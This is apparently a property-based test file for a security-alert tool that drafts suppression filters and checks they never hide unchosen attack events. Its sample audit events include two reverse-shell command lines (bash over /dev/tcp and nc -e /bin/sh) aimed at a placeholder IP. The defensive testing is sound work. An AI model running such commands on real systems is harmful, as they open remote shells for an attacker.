import * as fc from "fast-check";
import { expect, test } from "vitest";
import { matchBehaviours } from "../../src/digest/behaviours/table.ts";
import { createDescriber } from "../../src/digest/describe/create-describer.ts";
import { groupIdOf } from "../../src/digest/describe/event-shape.ts";
import type { EventRecord } from "../../src/event-fields/event-record.ts";
import { fieldsOf } from "../../src/rules/fields-of.ts";
import { matches } from "../../src/rules/matches.ts";
import { parseFilter } from "../../src/rules/parse-filter.ts";
import { printFilter } from "../../src/rules/print-filter.ts";
import { eventArbitrary } from "../support/digest-arbitraries.ts";
import { runDraft } from "./run-draft.ts";

/** Of one process, login, moment, event or machine: never used unless asked for. */
const FORBIDDEN =
  /^(?:p?pid|session|auid|.*time.*|timestamp|_id|event_?id|agent_?id|header.*|guid|correlation|record_number|src_port|hostname|src_ip|dst_ip|ip|sourceIPAddress|containerId|accessKey)$/i;

const process = fc.record(
  {
    event_type: fc.constant("audit"),
    type: fc.constantFrom("start", "connect"),
    user: fc.constantFrom("root", "app", 'quo"te\\d', "backup"),
    exe: fc.constantFrom(
      "/usr/bin/rsync",
      "/bin/bash",
      "/usr/bin/nc",
      "/tmp/.x/run",
      "C:\\Users\\Public\\a.exe",
    ),
    arguments: fc.constantFrom(
      "rsync -a /srv/releases/release-7.1.2/ /var/www",
      "rsync -a /srv/releases/release-9.4.0/ /var/www",
      "bash -i >& /dev/tcp/198.51.100.4/443 0>&1",
      "nc -e /bin/sh 198.51.100.4 4444",
      'echo "a\\" b"',
      "run",
    ),
    cwd: fc.constantFrom("/", "/srv/app/current", "/srv/app/releases/20260101"),
    tty: fc.constantFrom(null, "pts1", "pts2"),
    dst_ip: fc.constantFrom("10.0.0.5", "198.51.100.4"),
    dst_port: fc.constantFrom(443, 4444, 51_022),
    pid: fc.nat(99_999),
    session: fc.nat(99),
    auid: fc.nat(2),
    agent_id: fc.uuid(),
    hostname: fc.constantFrom("web-1", "web-2"),
    timestamp: fc.integer({ min: 1_700_000_000_000, max: 1_700_000_100_000 }),
  },
  { requiredKeys: ["event_type", "type"] },
);
const call = fc.record({
  event_type: fc.constant("cloudtrail"),
  eventName: fc.constantFrom("GetObject", "StopLogging", "CreateAccessKey", "ListBuckets"),
  eventSource: fc.constantFrom("s3.amazonaws.com", "cloudtrail.amazonaws.com", "iam.amazonaws.com"),
  user: fc.constantFrom("i-0abc", "ci-1700000001", "mia"),
  userIdentity: fc.constantFrom(
    { type: "AssumedRole", arn: "arn:aws:sts::1:assumed-role/ci/ci-1700000001" },
    { type: "AssumedRole", arn: "arn:aws:sts::1:assumed-role/ci/ci-1700000002" },
    { type: "IAMUser", arn: "arn:aws:iam::1:user/mia" },
  ),
  sourceIPAddress: fc.constantFrom("203.0.113.5", "198.51.100.4"),
});
const withId = (event: object, index: number): EventRecord => ({
  ...event,
  _id: `${String(index).padStart(8, "0")}-0000-4000-8000-000000000000`,
});
const events = fc
  .array(fc.oneof(process, call, eventArbitrary), { minLength: 1, maxLength: 24 })
  .map((list) => list.map((event, index) => withId(event, index)));

const describeEvent = createDescriber(matchBehaviours);
const groupOf = (event: EventRecord): string => groupIdOf(describeEvent(event).shape.hash);
const isAttack = (event: EventRecord): boolean =>
  describeEvent(event).shape.hits.some(({ technique, weight }) => technique !== "" && weight >= 2);

/** Events of three alerts, and some of the first that are chosen: by their ids, or by the group of one of them. */
const cases = fc
  .tuple(events, fc.array(events, { maxLength: 2 }), fc.infiniteStream(fc.boolean()), fc.boolean())
  .map(([own, others, picks, byGroup]) => {
    const [first] = own;
    const picked = own.filter((event) => event === first || picks.next().value === true);
    const ids = picked.map((event) => String(event["_id"]));
    const selection = byGroup && first ? { group: groupOf(first) } : { eventIds: ids };
    const chosen =
      byGroup && first ? own.filter((event) => groupOf(event) === groupOf(first)) : picked;
    return { own, others, selection, chosen };
  });

test("every offered filter is read back as it was printed and is short enough", () => {
  fc.assert(
    fc.property(cases, ({ own, others, selection }) => {
      const { draft } = runDraft({ own, others, selection });
      if (draft.kind !== "offered") return;
      expect(draft.filters.length).toBeLessThanOrEqual(3);
      for (const { text, filter } of draft.filters) {
        expect(printFilter(parseFilter(text))).toBe(text);
        expect(parseFilter(text)).toEqual(filter);
        expect(text.length).toBeLessThanOrEqual(1000);
      }
    }),
  );
});

test("every offered filter matches all chosen events", () => {
  fc.assert(
    fc.property(cases, ({ own, others, selection, chosen }) => {
      const { draft } = runDraft({ own, others, selection });
      if (draft.kind !== "offered") return;
      for (const { text } of draft.filters) {
        const filter = parseFilter(text);
        expect(chosen.filter((event) => !matches(filter, event))).toEqual([]);
      }
    }),
  );
});

test("no offered filter matches an attack that was not chosen, nor another act of another alert", () => {
  let offered = 0;
  let refused = 0;
  fc.assert(
    fc.property(cases, ({ own, others, selection, chosen }) => {
      const { draft } = runDraft({ own, others, selection });
      if (draft.kind !== "offered") {
        refused += 1;
        return;
      }
      offered += 1;
      const groups = new Set(chosen.map(groupOf));
      const isProtected = (event: EventRecord): boolean =>
        isAttack(event) && !chosen.includes(event);
      for (const { text } of draft.filters) {
        const filter = parseFilter(text);
        expect(own.filter((event) => isProtected(event) && matches(filter, event))).toEqual([]);
        const unlike = others.flat().filter((event) => !groups.has(groupOf(event)));
        expect(unlike.filter((event) => matches(filter, event))).toEqual([]);
      }
    }),
    { numRuns: 300 },
  );
  expect(Math.min(offered, refused)).toBeGreaterThan(20);
});

test("no offered filter names a field that does not last", () => {
  fc.assert(
    fc.property(cases, ({ own, others, selection }) => {
      const { draft } = runDraft({ own, others, selection });
      if (draft.kind !== "offered") return;
      const fields = draft.filters.flatMap(({ filter }) => fieldsOf(filter));
      expect(fields.filter((field) => FORBIDDEN.test(field))).toEqual([]);
    }),
  );
});
